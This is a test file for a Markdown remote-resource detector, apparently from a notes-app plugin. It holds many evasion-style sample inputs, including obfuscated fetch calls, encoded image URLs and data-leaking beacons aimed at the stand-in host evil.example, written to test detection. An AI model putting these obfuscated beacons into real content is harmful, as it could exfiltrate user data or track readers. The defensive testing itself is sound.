import { expect, it } from 'vitest';
import { costRatio } from '../../../../test/cost-ratio.ts';
import { sampleOf } from '../../../../test/sample-of.ts';
import { findRemoteResources } from './remote-resources.ts';

const evil = 'https://evil.example/?d=1';

it.each([
  `![](${evil})`,
  `![alt](<${evil}> "title")`,
  `![a\nb](\n${evil}\n)`,
  `[![in a link](${evil})](local.md)`,
  `![a [b](local.md) c](${evil})`,
  `![a \`]\` b](${evil})`,
  `![a <b title="]"> c](${evil})`,
  `\`\`\`\n![](${evil})\n\`\`\``,
  '![](//evil.example/x.png)',
  String.raw`![](\\\\evil.example\share\x.png)`,
  '![](HTTPS://evil.example/x)',
  '![](&#104;ttps://evil.example/x)',
  '![](https&colon;&sol;/evil.example/x)',
  String.raw`![](https\://evil.example/x)`,
  '![](file://evil.example/share/x.png)',
  `![alt][r]\n\n[r]: ${evil}`,
  `![alt][ R  x ]\n\n> [r X]:\n> ${evil}`.replaceAll('> ', ''),
  `![r]\n\n[r]: <${evil}>`,
  `![r][]\n\n[r]: ${evil} "t"`,
  `<img src="${evil}">`,
  `<IMG\nalt='a > b'\nsrc=${evil}>`,
  `<b "<img src=${evil}>">`,
  `<img src="a.png" srcset="b.png 1x,${evil} 2x">`,
  '<img src="ht\ntps://evil.example/">',
  `<img alt="${'long '.repeat(1_000)}" src="${evil}">`,
  `<picture><source srcset='${evil}'></picture>`,
  `<video poster="${evil}"></video>`,
  `<audio autoplay src=${evil}>`,
  `<svg><image href="${evil}"/></svg>`,
  `<svg><use xlink:href="${evil}"/></svg>`,
  `<input type=image src="${evil}">`,
  `<td background="${evil}">`,
  '<iframe srcdoc="x"></iframe>',
  '<link rel=stylesheet href=x.css>',
  '<base href="//evil.example/">',
  '<style>@import "x.css"</style>',
  '<object data=x></object>',
  '<meta http-equiv=refresh content="0;url=x">',
  `<p style="background: url(${evil})">`,
  `<p style="background: URL( '${evil}' )">`,
  String.raw`<p style="background: u\72l(x)">`,
  '<p style="background: image-set(\'x\' 1x)">',
  `{{video ${evil}}}`,
  `\`\`\`mermaid\nflowchart TD\nA@{ img: "${evil}", h: 60 }\n\`\`\``,
  `---\ncover: ${evil}\n---\nA note.`,
  `\uFEFF---\ncover: ${evil}\n---\nA note.`,
  `---\n"banner_image":\n  '${evil}'\n---\n`,
  `\`\`\`cardlink\nurl: ${evil}\ntitle: "x"\nimage: ${evil}\n\`\`\``,
  `~~~embed \`x\`\nimage: ${evil}\n~~~`,
  `~~~ embed\nimage: "${evil}"\n~~~`,
  `> \`\`\`leaflet\n> image: ${evil}\n> \`\`\``,
  `- \`\`\`\`Cardlink\n  \`\`\`\n  image: ${evil}`,
  `\`\`\`js\n\`\`\`\n\`\`\`cardlink\nimage: //evil.example/x\n\`\`\``,
  `~~~js\n\`\`\`cardlink\nimage: ${evil}\n\`\`\`\n~~~`,
  String.raw`~~~cardlink${'\n'}image: "https:\/\/evil.example"${'\n'}~~~`,
  String.raw`~~~cardlink${'\n'}image: "\x68ttps:" ${'\n'}~~~`,
  '```dataviewjs\nfetch("ht" + "tps:" + "//evil.example")\n```',
  '`= "![x](" + "https:" + "//evil.example/p.png?d=FR76)"`',
  '`$= dv.el("img", "")`',
  `\`\`\`mermaid\n%%{init: {"themeCSS": "@import '${evil}';"}}%%\nflowchart LR\nA-->B\n\`\`\``,
  `![chart &#91;1](${evil})`,
  `![x&#92;](${evil})`,
  `![x&#10;&#10;y](${evil})`,
  `<img alt="&#34;>" src="${evil}">`,
  '<img src="&#0000000104;ttps://evil.example/p.png">',
  `> ![x](\n> ${evil})`,
  `- > ![x](\n  > ${evil})`,
  `> ![x](\r> ${evil})`,
  `> ![a\n> b]\n\n[a b]: ${evil}`,
  `![x]\n\n> [x]:\n> ${evil}`,
  `> <img\n> src="${evil}">`,
  `![x](${' '.repeat(4_001)}${evil})`,
  `![a $[$ b](${evil})`,
  `[x ![a $]$ b](${evil})`,
  `\`\`\`mermaid\nflowchart TD\nA@{ "img": "${evil}", h: 60 }\n\`\`\``,
  '```mermaid\nflowchart TD\nA@{ "img"://evil.example/p.png }\n```',
  '```mermaid\nflowchart TD\nA@{ "im\\x67": "\\x68ttps://evil.example" }\n```',
  `\`\`\`mermaid\nflowchart TD\nA@{ label: "}${'x'.repeat(520)}", img: "${evil}" }\n\`\`\``,
  `<%* await fetch("${evil}") %>`,
  '<% tp.web.random_picture() %>',
  `first:: !\nsecond:: [x](${evil})\n\n\`= this.first + this.second\``,
  '`= join([[other]].parts, "")`',
  `---\n{"image": "${evil}"}\n---\n\nA note.\n`,
  `---\nimage: >-\n  ${evil}\n---\n`,
  `---\nimage: !!str ${evil}\n---\n`,
  '---\nimage: "\\x68ttps://evil.example/p.png"\n---\n',
  `---\n"im\\x61ge":\n  - src: ${evil}\n---\n`,
  `---\nsource: &a ${evil}\nimage: *a\n---\n`,
  `---\nimage: [${evil}\n---\n`,
  `---\nsummary: "\\x21[x](${evil})"\n---\n`,
])('findRemoteResources detects a remote resource: %s', (text) => {
  expect(findRemoteResources(`A note.\n\n${text}`.replace(/^A note\.\n\n(?=\uFEFF?---)/, ''))).not.toEqual(
    [],
  );
});

it.each([
  '![](picture.png)',
  '![[picture.png]]',
  '![](data:image/png;base64,//8AAA==)',
  `[a link](${evil})`,
  `<${evil}>`,
  evil,
  `![](picture.png) and [a link](${evil}), on one line`,
  `[r]\n\n[r]: ${evil}`,
  `![](picture.png) [r]\n\n[r]: ${evil}`,
  `<a href="${evil}">a link</a> <img src="picture.png">`,
  '<img src="data:image/png;base64,//8AAA==">',
  `Image: ${evil}`,
  `---\nsource: ${evil}\n---\n`,
  'if a < img and url (x)',
  '<details><summary>more</summary></details>',
  '<p style="color: red">',
  ...[
    'js',
    'ts',
    'python',
    'sh',
    'json',
    'yaml',
    'html',
    'http',
    'sql',
    'C++',
    '{.rust}',
    'js title="a.js"',
    '',
  ].map((language) => `\`\`\`${language}\nfetch("${evil}") // or ${evil}\n\`\`\``),
  `\`\`\`js\nfetch("${evil}")\n\`\`\`\n\nSee ${evil}.\n\n\`\`\`cardlink\ntitle: "x"\n\`\`\`\n\nOr ${evil}.`,
  `\`\`\`ad-note\nSee [this](${evil}).\n\`\`\``,
  `\`\`\`mermaid\nflowchart LR\nA-->B\nclick A "${evil}"\n\`\`\``,
  '```dataview\nTABLE file.mtime FROM "projects" // all\n```',
  'Write `= 5` or `=SUM(A1:A3)` or `a = "b"`.',
  `![](picture.png) costs $5, see [a link](${evil}).`,
  `> ![](picture.png)\n> and [a link](${evil})`,
  '<img src="picture.png"\n>',
  `> [r]\n> and more\n\n[r]: ${evil}`,
  'The sum is `= this.price + this.tax`.\n\nprice:: 4\ntax:: 1',
  `first:: ![](picture.png)\n\n\`= this.first\``,
  `\`\`\`erb\n<%= link_to "x", "${evil}" %>\n\`\`\``,
  'Less than <% of all',
  `---\nsource: ${evil}\nimage: picture.png\n---\n`,
  `---\nsource: "${evil}"\nnote: "a \\"word\\""\ncover: "[[picture.png]]"\n---\n`,
  `---\nlinks:\n  - ${evil}\nimage:\n---\n`,
  `\`\`\`mermaid\nflowchart LR\nA@{ shape: circle }\nclick A "${evil}"\n\`\`\``,
])('findRemoteResources ignores text without remote resources: %s', (text) => {
  expect(findRemoteResources(text)).toEqual([]);
});

it('findRemoteResources combines resources into one item when there are too many, and the item changes if any of them changes', () => {
  const many = (count: number, last: string): string =>
    `${`![](https://a.example/~)\n`.repeat(count).replaceAll('~', (_, at: number) => `${at}`)}![](${last})`;
  expect(findRemoteResources(many(999, evil))).toHaveLength(1_000);
  const [whole, ...rest] = findRemoteResources(many(1_000, evil));
  expect([rest, whole?.slice(0, 15)]).toEqual([[], '1001 addresses:']);
  expect(findRemoteResources(many(1_000, 'https://b.example/'))).not.toEqual([whole]);
  const cells = (last: string): string => `${'<td>a</td>'.repeat(1_001)}<td ${last}>`;
  expect(findRemoteResources(cells(''))).not.toEqual(findRemoteResources(cells(`background="${evil}"`)));
});

const frame = `<iframe ${'title="Video player" allow="autoplay" '.repeat(8)}`;
it.each([
  ['<script>let a = 1;</script>', '<script>fetch("ht" + "tps://evil.example")</script>'],
  ['<script>let a = 1;</script>', '<script><script>fetch("ht" + "tps://evil.example")</script>'],
  ['<script>"<img>"; let a = 1;</script>', '<script>"<img>"; fetch("ht" + "tps://evil.example")</script>'],
  ['<style>\nh1 { color: red }\n</style>', '<style>\n@import "x.css";\n</style>'],
  ['<style>h1 { color: red }', '<style>h1 { color: red }\n\n@import "x.css";'],
  [`${frame} src="https://video.example/">`, `${frame} src="${evil}">`],
  [`<iframe title="${'x'.repeat(2_100)}" src="a">`, `<iframe title="${'x'.repeat(2_100)}" src="b">`],
])('findRemoteResources returns different items for different elements: %.40s', (existing, added) => {
  const known = findRemoteResources(`${existing}\n`);
  expect(known).not.toEqual([]);
  expect(findRemoteResources(`${existing}\n\n${added}`).filter((each) => !known.includes(each))).not.toEqual(
    [],
  );
});

it.each([
  '<script>let a = 1;</script>',
  'Write `<script>` first.',
  `${frame} src="a">`,
  '<style>h1 {}</style>',
])('findRemoteResources returns the same items when text is added below %.40s', (existing) => {
  expect(findRemoteResources(`${existing}\n\nMore text.\n`)).toEqual(findRemoteResources(existing));
});

const repeatedPieces = [
  '<script>',
  '<style>',
  '<iframe "',
  '<%',
  '$[',
  '::',
  '&#0',
  '`= this.a + ',
  '[',
  '![',
  '![a](',
  '<img ',
  '<img "',
  '[a]:',
  '{{',
  'style="',
  '@{',
  '&#',
  '`![`',
  '](',
  '](<',
  '][',
  '\\[',
  '\n```a\n',
  '\n```\n',
  '`= "',
  '`$=',
  '\n~~~a //',
  '\n> > > ',
  'themeCSS ',
];
// test/linear-scans.test.ts repeats other texts.
it.each(sampleOf(repeatedPieces, 5))(
  'findRemoteResources scans repeated %s in linear time',
  async (piece) => {
    const text = (times: number): string =>
      `<p ![ ${piece.repeat(times)}\n~~~mermaid\n${piece.repeat(times)}`;
    const ratio = await costRatio(
      () => findRemoteResources(text(40_000)),
      () => findRemoteResources(text(10_000)),
    );
    expect(ratio).toBeLessThan(12);
  },
);
